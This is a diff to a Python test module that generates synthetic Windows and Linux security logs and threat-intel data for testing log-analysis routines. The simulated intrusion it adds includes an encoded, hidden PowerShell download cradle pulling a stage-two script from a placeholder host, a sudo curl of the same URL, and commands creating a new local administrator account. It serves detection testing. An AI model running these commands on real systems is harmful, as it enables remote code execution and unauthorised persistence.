@@ -16,6 +16,7 @@ text, the JSON and CSV parsers of the standard library, python-evtx's XML for th
 
 from __future__ import annotations
 
+import base64
 import csv
 import json
 import os
@@ -48,6 +49,10 @@ LNX_HOST = "lnx-e2e01"
 SPRAYER = "198.51.100.99"
 SPRAY_USERS = ["oracle", "postgres", "ubuntu", "pi", "git", "ftp", "www", "test"]
 SPRAY_USERS += ["jenkins", "hadoop", "nagios", "mysql", "tomcat", "guest", "ansible"]
+
+URL_HOST = "dl.badcdn.example"
+URL = f"http://{URL_HOST}/x/stage2.sh"
+CRADLE = f"IEX (New-Object Net.WebClient).DownloadString('{URL}')"
 
 ZEEK_HOST = "10.20.0.15"
 C2, C2_PORT = "192.0.2.66", 4444
@@ -86,6 +91,61 @@ def _logon_data(kind: int, user: str, domain: str, ip: str, logon_type: int, por
     return data
 
 
+EXPLORER = "C:\\Windows\\explorer.exe"
+DAILY_WORK = [
+    (EXPLORER, "C:\\Windows\\Explorer.EXE"),
+    (
+        "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe",
+        '"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe"',
+    ),
+    (
+        "C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE",
+        '"C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE"',
+    ),
+    ("C:\\Windows\\System32\\notepad.exe", "notepad.exe C:\\Users\\alice\\todo.txt"),
+]
+
+
+def _encoded(script: str) -> str:
+    return base64.b64encode(script.encode("utf-16-le")).decode()
+
+
+def attacker_work() -> list[tuple[str, str]]:
+    """What the intruder ran in the RDP session: recon, a new admin, a download cradle."""
+    system32 = "C:\\Windows\\System32\\"
+    return [
+        (system32 + "rdpclip.exe", "rdpclip"),
+        (system32 + "cmd.exe", '"C:\\Windows\\system32\\cmd.exe"'),
+        (system32 + "whoami.exe", "whoami /all"),
+        (system32 + "net.exe", f"net user {NEW_ACCOUNT} Winter2026! /add"),
+        (system32 + "net.exe", f"net localgroup administrators {NEW_ACCOUNT} /add"),
+        (
+            system32 + "WindowsPowerShell\\v1.0\\powershell.exe",
+            f"powershell.exe -nop -w hidden -enc {_encoded(CRADLE)}",
+        ),
+    ]
+
+
+def _process_data(user, domain, logon_id, image, command, pid):
+    return {
+        "SubjectUserSid": "S-1-5-21-3623811015-1001",
+        "SubjectUserName": user,
+        "SubjectDomainName": domain,
+        "SubjectLogonId": logon_id,
+        "NewProcessId": f"0x{pid:x}",
+        "NewProcessName": image,
+        "TokenElevationType": "%%1938",
+        "ProcessId": f"0x{pid - 8:x}",
+        "CommandLine": command,
+        "TargetUserSid": "S-1-0-0",
+        "TargetUserName": "-",
+        "TargetDomainName": "-",
+        "TargetLogonId": "0x0",
+        "ParentProcessName": EXPLORER,
+        "MandatoryLabel": "S-1-16-8192",
+    }
+
+
 def write_windows(folder: Path) -> tuple[Path, Path]:
     """Security.evtx: the first part of the brute force and benign logons; winlogbeat
     JSON: the rest of it, the logon that got through and the account changes."""
@@ -104,6 +164,10 @@ def write_windows(folder: Path) -> tuple[Path, Path]:
     ):
         data = _logon_data(kind, user, "CONTOSO", ip, ltype, 0 if ip == "-" else 61000 + i)
         evtx_events.append(EvtxEvent(kind, _at(900 + 60 * i), WIN_HOST, data=data))
+    for logon_id, minute in [("0x51a2b", 16), ("0x61c3d", 40), ("0x72e4f", 70)]:
+        for k, (image, command) in enumerate(DAILY_WORK):  # alice's ordinary sessions
+            data = _process_data("alice", "CONTOSO", logon_id, image, command, 0x1000 + 16 * k)
+            evtx_events.append(EvtxEvent(4688, _at(60 * minute + 20 * k), WIN_HOST, data=data))
     evtx_path = write_evtx(folder / "Security.evtx", evtx_events)
 
     beats = []
@@ -123,7 +187,9 @@ def write_windows(folder: Path) -> tuple[Path, Path]:
                     "event_id": str(kind),
                     "provider_name": "Microsoft-Windows-Security-Auditing",
                     "record_id": 9000 + len(beats),
-                    "task": "Logon" if kind in (4624, 4625) else "User Account Management",
+                    "task": {4624: "Logon", 4625: "Logon", 4688: "Process Creation"}.get(
+                        kind, "User Account Management"
+                    ),
                     "event_data": data,
                 },
             }
@@ -135,6 +201,10 @@ def write_windows(folder: Path) -> tuple[Path, Path]:
         beat(4625, _at(1200 + 15 * i), data, "logon-failed")
     win = _logon_data(4624, BREACHED, "WIN-E2E01", RDP_ATTACKER, 10, 51100)
     beat(4624, _at(1500), win, "logged-in")
+    for k, (image, command) in enumerate(attacker_work()):
+        pid = 0x2000 + 16 * k
+        data = _process_data(BREACHED, "WIN-E2E01", win["TargetLogonId"], image, command, pid)
+        beat(4688, _at(1510 + 8 * k), data, "created-process")
     subject = {
         "SubjectUserSid": "S-1-5-21-3623811015-1001",
         "SubjectUserName": BREACHED,
@@ -205,6 +275,12 @@ def write_auth_log(folder: Path) -> Path:
     port += 1
     line(400, f"Accepted password for deploy from {SPRAYER} port {port} ssh2", pid=4000)
     line(400, "pam_unix(sshd:session): session opened for user deploy(uid=1001) by (uid=0)")
+    line(
+        410,
+        f"deploy : TTY=pts/0 ; PWD=/home/deploy ; USER=root ; COMMAND=/usr/bin/curl -s {URL}",
+        "sudo",
+        4010,
+    )
     line(420, "pam_unix(cron:session): session opened for user root(uid=0) by (uid=0)", "CRON")
     line(460, "Failed password for bob from 10.20.0.31 port 40999 ssh2", pid=4100)
     path = folder / "auth.log"
@@ -390,7 +466,20 @@ def write_ti_csv(folder: Path) -> Path:
         ]
         for n, (address, what) in enumerate([(C2, "Beacon"), ("198.51.100.250", "Phishing")])
     ]
+    url_row = dict(zip(header, rows[0], strict=True)) | {
+        "IndicatorId": "ti-url",
+        "Description": "Stager download",
+        "ThreatType": "MaliciousUrl",
+        "NetworkIP": "",
+        "Url": URL,
+    }
+    header.insert(-1, "Url")
+    rows = [r[:-1] + [""] + r[-1:] for r in rows]
+    rows.append([url_row[h] for h in header])
     return _write_export(folder / "ti_indicators.csv", header, rows)
+
+
+ENTITY_KEYS = {"ip": "Address", "host": "HostName", "url": "Url"}
 
 
 def write_alerts_csv(folder: Path) -> Path:
@@ -415,6 +504,7 @@ def write_alerts_csv(folder: Path) -> Path:
         ("Beaconing to a rare destination", "High", [("ip", C2), ("host", LNX_HOST)]),
         ("Multiple failed RDP logons", "Medium", [("ip", RDP_ATTACKER), ("host", "WIN-E2E01")]),
         ("SSH logon after many failures", "Medium", [("ip", SPRAYER), ("host", LNX_HOST)]),
+        ("Download cradle in a command line", "High", [("url", URL), ("host", "WIN-E2E01")]),
     ]
     rows = []
     for n, (name, severity, entities) in enumerate(alerts):
@@ -422,7 +512,7 @@ def write_alerts_csv(folder: Path) -> Path:
             {
                 "$id": str(i + 2),
                 "Type": kind,
-                **({"Address": v} if kind == "ip" else {"HostName": v}),
+                ENTITY_KEYS[kind]: v,
             }
             for i, (kind, v) in enumerate(entities)
         ]
@@ -647,7 +737,10 @@ def test_host_logons_summary_on_the_linux_host(run, logs):
 def test_win_host_events_lists_the_account_created_and_added(run, windows_events):
     res = run("win_host_events", host="WIN-E2E01")
     assert res.status == "ok"
-    others = Counter(e["EventID"] for e in windows_events if e["EventID"] not in ("4624", "4625"))
+    # every event but logons and process creations
+    others = Counter(
+        e["EventID"] for e in windows_events if e["EventID"] not in ("4624", "4625", "4688")
+    )
     pivot = res["event_pivot"].set_index("EventID")["Events"]
     assert {str(k): v for k, v in pivot.items()} == dict(others)
     events = res["account_events"]
@@ -732,11 +825,11 @@ def test_alert_ti_enrich_ranks_the_alert_naming_a_listed_address(run, logs):
     res = run("alert_ti_enrich")
     assert res.status == "ok"
     exported = csv_rows(logs["alerts"])
-    listed = {r["NetworkIP"] for r in csv_rows(logs["ti"])}
+    listed = {r["NetworkIP"] or r["Url"] for r in csv_rows(logs["ti"])}
     naming = {
         r["DisplayName"]
         for r in exported
-        if {e.get("Address") for e in json.loads(r["Entities"])} & listed
+        if {e.get("Address") or e.get("Url") for e in json.loads(r["Entities"])} & listed
     }
     ranked = res["enriched_results"]
     assert len(ranked) == len(exported)
